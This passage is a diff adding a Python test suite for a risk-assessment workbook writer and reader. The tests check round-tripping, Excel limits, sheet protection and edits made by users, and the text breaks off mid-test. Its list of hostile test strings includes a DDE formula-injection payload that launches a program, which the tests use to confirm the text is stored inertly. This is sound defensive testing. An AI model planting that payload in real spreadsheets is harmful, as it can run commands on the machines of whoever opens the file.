@@ -1,0 +1,871 @@
+"""The workbook: what goes in comes out, whatever was written and whatever was done to the file in between."""
+
+from __future__ import annotations
+
+import io
+import re
+import zipfile
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import replace
+from datetime import date, datetime
+from typing import Any
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell.cell import Cell
+from openpyxl.chart import BarChart
+from openpyxl.styles import Font, PatternFill, Protection
+from openpyxl.utils import get_column_letter, range_boundaries
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.worksheet import Worksheet
+
+from arms_docs.assessment.ask import CELL_LIMIT, UNREADABLE, Form, Kind, Shape
+from arms_docs.assessment.assemble import assemble
+from arms_docs.assessment.form import SCHEMA_VERSION, questions
+from arms_docs.assessment.parse import clean
+from arms_docs.instrument import Instrument
+from arms_docs.problems import Code, Place, Stage
+from arms_docs.rating import Reading, judge
+from arms_docs.workbook.intake.find_by_key import find_answers
+from arms_docs.workbook.intake.read_workbook import read_content
+from arms_docs.workbook.sheets.layout import (
+    END_KEY,
+    FORM_HEADS,
+    HEADS_KEY,
+    LISTS_SHEET,
+    STAMP_EDITION,
+    STAMP_SCHEMA,
+    STAMP_SHEET,
+    START_SHEET,
+    WORKING_SHEET,
+    answer_cells,
+    lay_out,
+)
+from arms_docs.workbook.sheets.stamp import ASSESSMENT, KIND
+from arms_docs.workbook.write.write_workbook import write_workbook
+from tests.support.builders import INSTRUMENT, place_of
+
+ON = date(2026, 12, 1)
+NAMES = ("medium_low", "high_with_gap", "very_high_imminent")
+FORM = questions(INSTRUMENT)
+NARRATIVES = tuple(
+    place
+    for lines in lay_out(FORM).values()
+    for place, _, _, question in answer_cells(lines)
+    if question.kind is Kind.TEXT and question.limit == CELL_LIMIT
+)
+
+Cases = Mapping[str, Mapping[Place, object]]
+
+
+def read(content: bytes, stage: Stage = Stage.SIGN_OFF) -> Reading:
+    return read_content(content, INSTRUMENT, on=ON, stage=stage)
+
+
+def opened(content: bytes) -> Workbook:
+    return load_workbook(io.BytesIO(content))
+
+
+def saved(book: Workbook) -> bytes:
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def find(book: Workbook, key: str) -> tuple[Worksheet, int]:
+    """The sheet and row that carry a key."""
+    return next(
+        (sheet, row)
+        for sheet in book.worksheets
+        for row in range(1, sheet.max_row + 1)
+        if sheet.cell(row, 1).value == key
+    )
+
+
+def answer(book: Workbook, key: str) -> Cell:
+    """The cell in which a form's question is answered."""
+    sheet, row = find(book, key)
+    cell = sheet.cell(row, 3)
+    assert isinstance(cell, Cell)
+    return cell
+
+
+# --- there and back
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_answers_come_back_as_they_went_in(name: str, cases: Cases, workbooks: Mapping[str, bytes]) -> None:
+    raw = cases[name]
+    found = find_answers(opened(workbooks[name]), FORM)
+    assert found.problems == []
+    back = {place: value for place, value in found.raw.items() if value is not None}
+    assert set(back) == set(raw)
+    for place, value in back.items():
+        given = raw[place]
+        plain = value.date() if isinstance(value, datetime) else value
+        assert plain == (clean(given) if isinstance(given, str) and isinstance(plain, str) else given), place
+    reading = read(workbooks[name])
+    assert reading.problems == ()
+    assert reading.assessment == assemble(raw, FORM, Stage.SIGN_OFF)[0]
+    assert reading.rating == judge(raw, INSTRUMENT, on=ON).rating
+
+
+def test_blank_workbook_is_read_as_nothing_answered() -> None:
+    found = find_answers(opened(write_workbook(FORM)), FORM)
+    assert not any(found.raw.values())
+    assert len(found.cells) == sum(len(s.asked(r)) for s in FORM.sections for r in s.rows)
+    assert len(set(found.cells.values())) == len(found.cells)
+    reading = read(write_workbook(FORM), Stage.SUBMISSION)
+    assert {p.code for p in reading.problems} == {Code.MISSING, Code.NO_ROWS, Code.RM2000_NOT_GIVEN}
+    assert all(p.cell and p.label for p in reading.problems)
+
+
+def test_every_question_has_a_cell_of_its_own_and_every_answer_is_read_from_it() -> None:
+    """Fill every cell of the form, all of its rows, each with something of its own."""
+    raw: dict[Place, object] = {}
+    for number, (place, question) in enumerate(
+        (place, question) for lines in lay_out(FORM).values() for place, _, _, question in answer_cells(lines)
+    ):
+        if question.kind is Kind.TEXT:
+            raw[place] = f"text {number}"
+        elif question.kind is Kind.DATE:
+            raw[place] = date.fromordinal(date(2000, 1, 1).toordinal() + number)
+        elif question.kind is Kind.NUMBER:
+            raw[place] = number
+        elif question.kind is Kind.REFERENCES:
+            raw[place] = f"E{number}"
+        else:
+            raw[place] = question.choices[number % len(question.choices)].word
+    assert len(raw) > 900
+    content = write_workbook(FORM, raw)
+    found = find_answers(opened(content), FORM)
+    assert {p: v.date() if isinstance(v, datetime) else v for p, v in found.raw.items()} == raw
+    assert read(content).assessment == assemble(raw, FORM)[0]
+
+
+def test_same_answers_give_the_same_bytes(cases: Cases, workbooks: Mapping[str, bytes]) -> None:
+    raw = cases["medium_low"]
+    assert write_workbook(FORM, dict(raw)) == workbooks["medium_low"]
+    assert write_workbook(FORM, {place: raw[place] for place in reversed(list(raw))}) == workbooks["medium_low"]
+    assert len(set(workbooks.values())) == len(NAMES)
+    with zipfile.ZipFile(io.BytesIO(workbooks["medium_low"])) as parts:
+        assert {info.date_time for info in parts.infolist()} == {(2026, 1, 1, 0, 0, 0)}
+        assert str(datetime.now().astimezone().date()) not in parts.read("docProps/core.xml").decode()
+
+
+NASTY = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+441632960000",
+    "-5 to 5",
+    "- a list",
+    "@home",
+    "'quoted",
+    "_x0041_",
+    "_x005F_x0041_",
+    "__x000D__",
+    "_x00e9",
+    "_x0041_x0042_",
+    "😀 e\u0301 \U0001f468\u200d\U0001f469",
+    "\u202eright-to-left\u202c עברית العربية",
+    "one_x000B_two",
+    "Check",
+    "End of this sheet",
+    END_KEY,
+    STAMP_SHEET,
+    "result.indicated",
+    "sources.E1",
+    "sources",
+    "😀" * 1500,
+    "two\nlines\n\nand a gap",
+    "tab\there",
+    "a  b   c",
+    "<b>&amp;</b> ]]> & < > \" '",
+    "#REF!",
+    "#N/A",
+    "TRUE",
+    "1e5",
+    "00123",
+    "27/03/2026",
+    "12:30",
+    "50%",
+    "factors.R1.rating",
+    "actions.A1",
+    "Your answer",
+    "Question",
+    HEADS_KEY,
+    STAMP_SCHEMA,
+    "owner",
+    "also_1",
+    "Also for factor",
+    "E1",
+    "{braces} {0}",
+    "x" * 3000,
+    "y" * CELL_LIMIT,
+    "line\n" * 6000 + "end",
+    "\ufffd \u00a0 \u2028 \x85 \x9f \ufdd0",
+)
+TEXTS = st.one_of(
+    st.sampled_from(NASTY),
+    st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60),
+    st.text(alphabet="_x0041F5=+-@'\"<&\n\t\u200b 😀", min_size=1, max_size=30),
+    st.sampled_from([str(place) for place in NARRATIVES]),
+    st.sampled_from([question.label for section in FORM.sections for question in section.questions]),
+)
+
+
+def written(text: object) -> object:
+    """What a text is taken for, whether it came through a workbook or not."""
+    return clean(text) if isinstance(text, str) else text
+
+
+MANY_TEXTS = st.dictionaries(st.sampled_from(NARRATIVES), TEXTS, min_size=40, max_size=120)
+
+
+def test_nasty_texts_come_back_as_they_were_written() -> None:
+    check_written_and_read(dict(zip(NARRATIVES, NASTY, strict=False)))
+
+
+@settings(max_examples=2)
+@given(MANY_TEXTS)
+def test_any_text_comes_back_as_it_was_written(texts: dict[Place, str]) -> None:
+    check_written_and_read(texts)
+
+
+@pytest.mark.prove
+@settings(max_examples=20)
+@example(dict(zip(reversed(NARRATIVES), NASTY, strict=False)))
+@given(MANY_TEXTS)
+def test_many_texts_come_back_as_they_were_written(texts: dict[Place, str]) -> None:
+    check_written_and_read(texts)
+
+
+def check_written_and_read(texts: dict[Place, str]) -> None:
+    # Line breaks of another kind are the one thing that the writer does not take: see the next test.
+    raw = {place: re.sub(r"[\v\f]", " ", text) for place, text in texts.items()}
+    content = write_workbook(FORM, raw)
+    found = find_answers(opened(content), FORM)
+    assert found.problems == []
+    back = {place: written(value) for place, value in found.raw.items() if value is not None}
+    assert back == {place: clean(text) for place, text in raw.items() if clean(text)}
+    direct = judge(raw, INSTRUMENT, on=ON)
+    reading = read(content, Stage.SUBMISSION)
+    assert reading.assessment == direct.assessment
+    # Control characters are left out on writing; whoever judges the answers file hears of them.
+    quiet = [p for p in direct.problems if p.code is not Code.CONTROL_CHARACTERS]
+    assert [(p.code, p.place, p.facts) for p in reading.problems] == [(p.code, p.place, p.facts) for p in quiet]
+
+
+@pytest.mark.parametrize("text", ["a\vb", "a\fb"])
+def test_word_line_breaks_come_back_as_line_breaks(text: str) -> None:
+    place = place_of("factors.R1.rationale")
+    reading = read(write_workbook(FORM, {place: text}))
+    assert reading.assessment is not None
+    assert reading.assessment.factors[0].rationale == "a\nb"
+
+
+def test_number_that_is_not_finite_is_not_lost() -> None:
+    place = place_of("rm2000.age")
+    reading = read(write_workbook(FORM, {place: float("nan")}))
+    assert reading.assessment is not None
+    assert reading.assessment.rm2000.age == UNREADABLE
+
+
+def test_date_with_an_offset_is_written_as_text_and_refused() -> None:
+    place = place_of("person.born")
+    aware = datetime.fromisoformat("1968-05-14T00:00:00+00:00")
+    reading = read(write_workbook(FORM, {place: aware}))
+    assert reading.assessment is not None
+    assert reading.assessment.person.born == UNREADABLE
+
+
+def test_text_that_excel_would_cut_is_refused_by_excels_count() -> None:
+    with pytest.raises(ValueError, match="32767"):
+        write_workbook(FORM, {place_of("factors.R1.rationale"): "😀" * CELL_LIMIT})
+
+
+def test_text_too_long_for_a_cell_is_refused_and_never_cut() -> None:
+    place = place_of("factors.R1.rationale")
+    with pytest.raises(ValueError, match="32767"):
+        write_workbook(FORM, {place: "x" * (CELL_LIMIT + 1)})
+
+
+def test_control_characters_that_a_cell_holds_are_said_and_left_out(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    answer(book, "factors.R1.rationale").value = "a_x0007_b_x000B_c_x000D__x000A_d"
+    reading = read(saved(book))
+    assert reading.assessment is not None
+    assert reading.assessment.factors[0].rationale == "ab\nc\nd"
+    assert [p.code for p in reading.problems] == [Code.CONTROL_CHARACTERS]
+
+
+# --- what Excel asks of the file
+
+
+@pytest.fixture(scope="module")
+def blank() -> Workbook:
+    return opened(write_workbook(FORM))
+
+
+def test_validations_keep_to_excels_limits(blank: Workbook) -> None:
+    """Beyond them a file opens with "We found a problem with some content"."""
+    seen = 0
+    for sheet in blank.worksheets:
+        for rule in sheet.data_validations.dataValidation:
+            seen += 1
+            for text, limit in ((rule.prompt, 255), (rule.promptTitle, 32), (rule.error, 255), (rule.errorTitle, 32)):
+                assert len(text or "") <= limit, (sheet.title, text)
+            assert rule.formula1 is None or len(rule.formula1) <= 255
+            assert rule.showInputMessage is bool(rule.prompt)
+            if rule.type == "list":
+                assert rule.showErrorMessage
+                assert rule.errorStyle in (None, "stop")
+                assert not rule.showDropDown, "which hides the arrow, whatever its name says"
+    assert seen > 50
+
+
+def test_lists_are_ranges_with_names_that_hold_the_words_of_the_form(blank: Workbook) -> None:
+    lists: dict[str, tuple[str, ...]] = {}
+    for name, defined in blank.defined_names.items():
+        ((title, area),) = defined.destinations
+        assert title == LISTS_SHEET
+        first_column, first, last_column, last = range_boundaries(area)
+        assert first_column == last_column
+        assert isinstance(first_column, int)
+        assert isinstance(first, int)
+        assert isinstance(last, int)
+        lists[name] = tuple(str(blank[title].cell(row, first_column).value) for row in range(first, last + 1))
+        below = blank[title].cell(last + 1, first_column).value
+        assert below is None, "the range takes in the whole list"
+    for name, lines in lay_out(FORM).items():
+        rules = blank[name].data_validations.dataValidation
+        for place, row, column, question in answer_cells(lines):
+            address = f"{get_column_letter(column)}{row}"
+            mine = [rule for rule in rules if address in rule.sqref]
+            assert len(mine) <= 1, f"{place} has two validations"
+            words = lists[str(mine[0].formula1)] if mine and mine[0].type == "list" else ()
+            assert words == question.words, place
+            assert not question.help or (mine and question.help[:40] in str(mine[0].prompt)), place
+    assert {rule.formula1 for s in blank.worksheets for rule in s.data_validations.dataValidation} - {None} == set(
+        lists
+    )
+
+
+def test_answers_are_unlocked_and_everything_else_is_locked(blank: Workbook) -> None:
+    layout = lay_out(FORM)
+    assert blank.sheetnames == [START_SHEET, *layout, "Examples", LISTS_SHEET, WORKING_SHEET, STAMP_SHEET]
+    for sheet in blank.worksheets:
+        open_cells = {(row, column) for _, row, column, _ in answer_cells(layout.get(sheet.title, ()))}
+        unlocked = {(c.row, c.column) for cells in sheet.iter_rows() for c in cells if not c.protection.locked}
+        assert unlocked == open_cells, sheet.title
+        assert not sheet.merged_cells.ranges
+        styled = [*sheet.column_dimensions.values(), *sheet.row_dimensions.values()]
+        assert all(dimension.protection.locked for dimension in styled)
+
+
+def test_sheets_are_protected_without_a_password(blank: Workbook) -> None:
+    for sheet in blank.worksheets:
+        assert sheet.protection.sheet, sheet.title
+        assert sheet.protection.password is None
+        assert sheet.protection.hashValue is None
+        assert not sheet.protection.selectUnlockedCells
+    for name in lay_out(FORM):
+        # Row and column sizes may be changed: False is the permission.
+        assert blank[name].protection.formatRows is False
+        assert blank[name].protection.formatColumns is False
+    assert blank.security is not None
+    assert blank.security.lockStructure
+    assert blank.security.workbookPassword is None
+
+
+# Functions that Excel 2016 and LibreOffice 7.4 both have; none that makes a file change when it is only opened.
+SAFE = (
+    "AND CHAR CHOOSE COUNTA COUNTIF DAY EDATE FIND HYPERLINK IF IFERROR INDEX INT ISERROR ISNUMBER LEFT LEN LOOKUP "
+    "MATCH MAX MID MIN MONTH NOT OR REPT ROW SUBSTITUTE TEXT TRIM UPPER VALUE YEAR"
+)
+
+
+def formulas(book: Workbook) -> Iterator[tuple[str, str, str]]:
+    for sheet in book.worksheets:
+        for cells in sheet.iter_rows():
+            for cell in cells:
+                if cell.data_type == "f":
+                    yield sheet.title, cell.coordinate, str(cell.value)
+
+
+def test_formulas_are_short_and_use_what_old_programs_have(blank: Workbook) -> None:
+    used: set[str] = set()
+    count = 0
+    for sheet, address, formula in formulas(blank):
+        plain = re.sub(r'"(?:[^"]|"")*"', '""', formula)
+        used |= set(re.findall(r"([A-Z][A-Z0-9.]*)\(", plain))
+        depth = max(plain[:n].count("(") - plain[:n].count(")") for n in range(0, len(plain), 7))
+        assert len(formula) <= 8192 and depth < 64, (sheet, address)
+        texts = re.findall(r'"((?:[^"]|"")*)"', formula)
+        assert all(len(text) <= 255 for text in texts), (sheet, address)
+        count += 1
+    assert used <= set(SAFE.split()) and count > 800
+
+
+def test_no_formula_names_the_cell_of_an_answer(blank: Workbook) -> None:
+    """Such a name follows the cell when it is cut and pasted. Ranges begin and end in locked cells."""
+    answers = {
+        (name, f"{get_column_letter(column)}{row}")
+        for name, lines in lay_out(FORM).items()
+        for _, row, column, _ in answer_cells(lines)
+    }
+    seen = 0
+    for here, address, formula in formulas(blank):
+        plain = re.sub(r'"(?:[^"]|"")*"', "", formula)
+        for found in re.finditer(r"(?:('[^']+'|[A-Za-z_]+)!)?(\$?[A-Z]{1,2}\$?\d+)(?::(\$?[A-Z]{1,2}\$?\d+))?", plain):
+            sheet = (found[1] or here).strip("'")
+            ends = [end.replace("$", "") for end in found.groups()[1:] if end]
+            assert not any((sheet, end) in answers for end in ends), (here, address, found[0])
+            seen += 1
+    assert seen > 2000
+
+
+def test_blank_workbook_holds_no_link_and_no_clock(blank: Workbook) -> None:
+    for sheet in blank.worksheets:
+        assert {c.data_type for cells in sheet.iter_rows() for c in cells} <= {"s", "n", "f", "inlineStr"}, sheet.title
+    with zipfile.ZipFile(io.BytesIO(write_workbook(FORM))) as parts:
+        names = parts.namelist()
+        assert not [n for n in names if "externalLink" in n or "vba" in n.lower() or "connections" in n]
+
+
+def test_formulas_come_with_what_they_give(workbooks: Mapping[str, bytes]) -> None:
+    """Protected View and previewers do not calculate. None of the values is an error."""
+    shown = load_workbook(io.BytesIO(workbooks["high_with_gap"]), data_only=True)
+    assert [shown[START_SHEET].cell(row, 3).value for row in (6, 27, 28)] == [
+        "Complete",
+        "6 High, 3 Medium, 2 Low, 1 unable to rate",
+        "High",
+    ]
+    for content in (workbooks["high_with_gap"], write_workbook(FORM)):
+        values = load_workbook(io.BytesIO(content), data_only=True)
+        with zipfile.ZipFile(io.BytesIO(content)) as parts:
+            sheets = [parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/")]
+        assert sum(s.count("</f><v>") for s in sheets) == sum(s.count("<f>") for s in sheets) > 800
+        for sheet in values.worksheets:
+            assert not [c.coordinate for cells in sheet.iter_rows() for c in cells if c.data_type == "e"], sheet.title
+
+
+def test_sheets_print_with_their_marking_and_hide_what_is_not_for_reading(blank: Workbook) -> None:
+    for name in (START_SHEET, *lay_out(FORM)):
+        sheet = blank[name]
+        for margin in (sheet.oddHeader, sheet.oddFooter):
+            assert margin is not None
+            assert "OFFICIAL-SENSITIVE" in str(margin.center.text)
+        assert sheet.sheet_state == "visible"
+        assert (sheet.page_setup.paperSize, sheet.page_setup.fitToWidth) in ((9, 1), (9, 2))
+    for name in lay_out(FORM):
+        assert blank[name].column_dimensions["A"].hidden
+        assert all((blank[name].row_dimensions[row].height or 0) <= 409 for row in range(1, blank[name].max_row + 1))
+    assert blank[LISTS_SHEET].sheet_state == blank[STAMP_SHEET].sheet_state == "hidden"
+
+
+def test_stamp_says_form_and_edition(blank: Workbook, instrument: Instrument) -> None:
+    stamp = list(blank[STAMP_SHEET].iter_rows(values_only=True))
+    assert stamp == [(STAMP_SCHEMA, SCHEMA_VERSION), (STAMP_EDITION, instrument.edition), (KIND, ASSESSMENT)]
+    properties = [(p.name, p.value) for p in blank.custom_doc_props.props]  # type: ignore[attr-defined]
+    assert properties == [(name, str(word)) for name, word in stamp], "a blank carries no assessment id"
+
+
+def test_identifiers_keep_their_leading_zeros(blank: Workbook) -> None:
+    for name, lines in lay_out(FORM).items():
+        for place, row, column, question in answer_cells(lines):
+            shown = blank[name].cell(row, column).number_format
+            wanted = "DD/MM/YYYY" if question.kind is Kind.DATE else None
+            if question.kind is Kind.REFERENCES or place.field in ("staff_id", "reference"):
+                wanted = "@"
+            assert wanted in (None, shown), place
+
+
+# --- what people do to the file
+
+
+def renamed(book: Workbook) -> None:
+    for sheet in book.worksheets[1:]:
+        sheet.title = f"{sheet.title[:20]} ÄÖ'1"
+
+
+def reordered(book: Workbook) -> None:
+    book.move_sheet("Factors", -4)
+    book.move_sheet("Sign-off", -8)
+    book.move_sheet(STAMP_SHEET, -12)
+
+
+def rows_inserted(book: Workbook) -> None:
+    for name in lay_out(FORM):
+        sheet = book[name]
+        for row in sorted({2, 5, 9, sheet.max_row // 2, sheet.max_row}, reverse=True):
+            sheet.insert_rows(row)
+
+
+def column_inserted_before_the_keys(book: Workbook) -> None:
+    for name in lay_out(FORM):
+        book[name].insert_cols(1, 2)
+
+
+def column_inserted_before_the_answers(book: Workbook) -> None:
+    for name in lay_out(FORM):
+        book[name].insert_cols(3)
+
+
+def column_inserted_between_answers(book: Workbook) -> None:
+    for name in lay_out(FORM):
+        book[name].insert_cols(4, 2)
+
+
+def table_columns_moved(book: Workbook) -> None:
+    """The last two columns of a table change places, with their keys and heads."""
+    for section in FORM.sections:
+        if section.shape is Shape.TABLE:
+            sheet, keys = find(book, section.key)
+            last = 2 + len(section.questions)
+            for row in range(keys, keys + len(section.rows) + 2):
+                left, right = sheet.cell(row, last - 1).value, sheet.cell(row, last).value
+                sheet.cell(row, last - 1).value, sheet.cell(row, last).value = right, left
+
+
+def names_added(book: Workbook) -> None:
+    book.defined_names["factors.R1.rating"] = DefinedName("factors.R1.rating", attr_text="Factors!$C$99")
+    book.defined_names["lost"] = DefinedName("lost", attr_text="#REF!")
+    book.defined_names["_xlnm._FilterDatabase"] = DefinedName("_xlnm._FilterDatabase", attr_text="Case!$A$1:$D$9")
+    for name in [n for n in book.defined_names if n.startswith("list_")]:
+        del book.defined_names[name]
+
+
+def validations_and_formats_pasted_over(book: Workbook) -> None:
+    for name, lines in lay_out(FORM).items():
+        sheet = book[name]
+        sheet.data_validations.dataValidation.clear()
+        for _, row, column, question in answer_cells(lines):
+            cell = sheet.cell(row, column)
+            cell.fill, cell.font = PatternFill("solid", fgColor="FFFF00"), Font(name="Comic Sans MS", size=5)
+            cell.protection = Protection(locked=True)
+            cell.hyperlink = "https://example.org/" if question.kind is Kind.TEXT and cell.value else None
+            if question.kind is not Kind.DATE:
+                cell.number_format = "0.00%"
+
+
+def unprotected_and_scribbled_on(book: Workbook) -> None:
+    for name in lay_out(FORM):
+        sheet = book[name]
+        sheet.protection.sheet = False
+        sheet.column_dimensions["A"].hidden = False
+        far = sheet.max_row + 5
+        for row, text in enumerate(("my notes", "factors.R1.rating", "Your answer", "Rating", "High"), start=far):
+            sheet.cell(row, 25).value = text
+        sheet.cell(1, 30).value = "checked by TH"
+        sheet.auto_filter.ref = f"A1:D{far}"
+
+
+def labels_rewritten(book: Workbook) -> None:
+    """The words are for people; only "Your answer" is looked for, and it need not be found."""
+    for name, lines in lay_out(FORM).items():
+        for line in lines:
+            if line.kind in ("title", "section", "intro", "card", "question", "row"):
+                book[name].cell(line.number, 2).value = "Your answer"
+            elif line.key == HEADS_KEY:
+                for column in (2, 3, 4):
+                    book[name].cell(line.number, column).value = f"Antwort {column}"
+
+
+def table_heads_reworded(book: Workbook) -> None:
+    """As in a workbook made by a version that used other words."""
+    for name, lines in lay_out(FORM).items():
+        for line in lines:
+            if line.kind == "heads" and line.section:
+                for column in range(3, 3 + len(line.section.questions)):
+                    book[name].cell(line.number, column).value = f"owner {column}"
+
+
+def other_sheets_added(book: Workbook) -> None:
+    sheet = book.create_sheet("Notes", 0)
+    sheet.append(("Factor", "Your answer", "High", "Rating"))
+    sheet.append(("rating", "R1", "High"))
+    sheet.cell(1_048_576, 16_384).value = "far away"
+    book.create_chartsheet("Chart").add_chart(BarChart())
+    del book[LISTS_SHEET]
+    del book[STAMP_SHEET]
+    del book[START_SHEET]
+
+
+DONE: Mapping[str, Callable[[Workbook], None]] = {
+    f.__name__: f
+    for f in (
+        renamed,
+        reordered,
+        rows_inserted,
+        column_inserted_before_the_keys,
+        column_inserted_before_the_answers,
+        column_inserted_between_answers,
+        table_columns_moved,
+        names_added,
+        validations_and_formats_pasted_over,
+        unprotected_and_scribbled_on,
+        labels_rewritten,
+        table_heads_reworded,
+        other_sheets_added,
+    )
+}
+
+
+# what is said of words that somebody wrote outside the answers; of words of ours that are gone, nothing
+REMARKS: Mapping[str, set[Code]] = {
+    "unprotected_and_scribbled_on": {Code.OUTSIDE},
+    "labels_rewritten": {Code.OUTSIDE},
+    "table_heads_reworded": {Code.OUTSIDE},
+    "other_sheets_added": {Code.OWN_SHEET},
+}
+
+
+# one of each kind of change here, the others as proofs
+TRIED = ("renamed", "rows_inserted", "column_inserted_before_the_keys", "table_columns_moved", "labels_rewritten",
+         "unprotected_and_scribbled_on", "other_sheets_added")  # fmt: skip
+
+
+@pytest.mark.parametrize("what", [w if w in TRIED else pytest.param(w, marks=pytest.mark.prove) for w in DONE])
+def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], cases: Cases) -> None:
+    book = opened(workbooks["high_with_gap"])
+    DONE[what](book)
+    content = saved(book)
+    reading = read(content)
+    assert {p.code for p in reading.problems} == REMARKS.get(what, set())
+    assert reading.ok
+    assert reading.assessment == assemble(cases["high_with_gap"], FORM)[0]
+    # And each place is given where its answer now stands.
+    found = find_answers(again := opened(content), FORM)
+    for place, address in found.cells.items():
+        title, cell = address.rsplit("!", 1)
+        assert again[title.strip("'").replace("''", "'")][cell].value == found.raw[place], place
+
+
+@pytest.mark.parametrize("what", ["renamed", "rows_inserted", "column_inserted_before_the_keys"])
+def test_problems_are_put_at_the_cell_where_the_answer_now_stands(what: str, workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    answer(book, "factors.P2.rating").value = "Hihg"
+    DONE[what](book)
+    problems = read(saved(book)).problems
+    assert [(p.code, str(p.place)) for p in problems] == [(Code.NOT_A_CHOICE, "factors.P2.rating")]
+    (here,) = [
+        (sheet.title.replace("'", "''"), cell.coordinate)
+        for sheet in book.worksheets
+        for cells in sheet.iter_rows()
+        for cell in cells
+        if cell.value == "Hihg"
+    ]
+    assert problems[0].cell in (f"{here[0]}!{here[1]}", f"'{here[0]}'!{here[1]}")
+    assert problems[0].label == f"{INSTRUMENT.factor('P2').label}: Rating"
+
+
+def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(workbooks: Mapping[str, bytes]) -> None:
+    """Excel moves names and validations along with a cut cell; the key in its row stays."""
+    book = opened(workbooks["medium_low"])
+    sheet, row = find(book, "factors.R1.own_view")
+    _, other = find(book, "factors.R4.own_view")
+    said = sheet.cell(row, 3).value
+    assert said
+    assert sheet.cell(other, 3).value is None
+    sheet.move_range(f"C{row}:C{row}", rows=other - row)
+    book.defined_names["own_view_R1"] = DefinedName("own_view_R1", attr_text=f"Factors!$C${other}")
+    reading = read(saved(book))
+    assert reading.problems == ()
+    assert reading.assessment is not None
+    views = {f.id: f.own_view for f in reading.assessment.factors}
+    assert not views["R1"]
+    assert views["R4"] == said
+
+
+def test_required_answer_that_was_cut_is_missed_where_it_was(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    sheet, row = find(book, "factors.P3.rating")
+    _, other = find(book, "factors.P4.own_view")
+    sheet.move_range(f"C{row}:C{row}", rows=other - row)
+    problems = read(saved(book)).problems
+    assert [(p.code, p.cell) for p in problems] == [(Code.MISSING, f"Factors!C{row}")]
+
+
+def test_table_row_that_was_cut_and_pasted_is_another_row(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    sheet, row = find(book, "actions.A9")
+    sheet.move_range(f"D{row}:Q{row}", rows=5)
+    reading = read(saved(book))
+    assert reading.problems == ()
+    assert reading.assessment is not None
+    assert [a.id for a in reading.assessment.actions][-2:] == ["A8", "A14"]
+
+
+def test_unused_rows_may_be_deleted(workbooks: Mapping[str, bytes], cases: Cases) -> None:
+    book = opened(workbooks["medium_low"])
+    for key, count in (("actions.A10", 21), ("sources.E9", 12), ("rounds.SO2", 9)):
+        sheet, row = find(book, key)
+        sheet.delete_rows(row, count)
+    reading = read(saved(book))
+    assert reading.problems == ()
+    assert reading.assessment == assemble(cases["medium_low"], FORM)[0]
+
+
+def lost(reading: Reading) -> list[str]:
+    """The parts said to be lost; nothing else may be said."""
+    assert {p.code for p in reading.problems} == {Code.LOST_PART}
+    assert all(p.label and p.message for p in reading.problems)
+    return [str(p.place) for p in reading.problems]
+
+
+@pytest.mark.parametrize("name", ["Case", "Restricted", "Factors", "Sign-off"])
+def test_sheet_that_was_deleted_is_missed_and_nothing_else_is_said(name: str, workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    del book[name]
+    assert lost(read(saved(book))) == sorted(s.key for s in FORM.sections if s.sheet == name)
+
+
+def test_problems_of_other_parts_are_said_beside_a_lost_one(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    del book["Actions"]
+    cell = answer(book, "overall.level")
+    cell.value = "Hihg"
+    problems = [(p.code, str(p.place), p.cell) for p in read(saved(book)).problems]
+    assert problems == [
+        (Code.LOST_PART, "actions", ""),
+        (Code.NOT_A_CHOICE, "overall.level", f"Overall!{cell.coordinate}"),
+    ]
+
+
+def test_factor_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    sheet, row = find(book, "factors.R4.rating")
+    sheet.delete_rows(row - 1, 14)
+    problems = read(saved(book)).problems
+    assert {p.code for p in problems} == {Code.LOST_QUESTION}
+    assert {(p.place.section, p.place.row) for p in problems} == {("factors", "R4")}
+
+
+def column_deleted(book: Workbook) -> tuple[Worksheet, int]:
+    """The owners of the actions are gone; back come the sheet and the row of its keys."""
+    sheet, keys = find(book, "actions")
+    sheet.delete_cols(next(c for c in range(1, 20) if sheet.cell(keys, c).value == "owner"))
+    return sheet, keys
+
+
+def test_column_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    column_deleted(book)
+    assert lost(read(saved(book))) == ["actions"]
+
+
+@pytest.mark.parametrize("rows", [1, 40], ids=["row of keys", "every row"])
+def test_table_that_was_deleted_is_missed(rows: int, workbooks: Mapping[str, bytes]) -> None:
+    """Restricted information must not be lost without a word."""
+    book = opened(workbooks["medium_low"])
+    sheet, keys = find(book, "restricted")
+    assert sheet.cell(keys + 2, 4).value
+    sheet.delete_rows(keys, rows)
+    assert "restricted" in {str(p.place) for p in read(saved(book)).problems if p.code is Code.LOST_PART}
+
+
+@pytest.mark.parametrize(
+    ("name", "down", "column", "part"),
+    [("Actions", 1, 4, "actions"), ("Actions", 4, 12, "actions"), ("Restricted", 2, 6, "restricted")],
+)
+def test_what_is_written_under_a_table_is_not_left_out_unseen(
+    name: str, down: int, column: int, part: str, workbooks: Mapping[str, bytes]
+) -> None:
+    book = opened(workbooks["medium_low"])
+    cell = book[name].cell(book[name].max_row + down, column)
+    cell.value = "A31 and more"
+    (found,) = read(saved(book)).problems
+    assert (found.code, str(found.place), found.cell) == (Code.STRAY, part, f"{name}!{cell.coordinate}")
+    assert found.label not in ("", part)
+
+
+def test_what_is_written_under_a_form_is_not_left_out_unseen(workbooks: Mapping[str, bytes]) -> None:
+    book = opened(workbooks["medium_low"])
+    cell = book["Overall"].cell(book["Overall"].max_row + 3, 3)
+    cell.value = "and more"
+    (found,) = read(saved(book)).problems
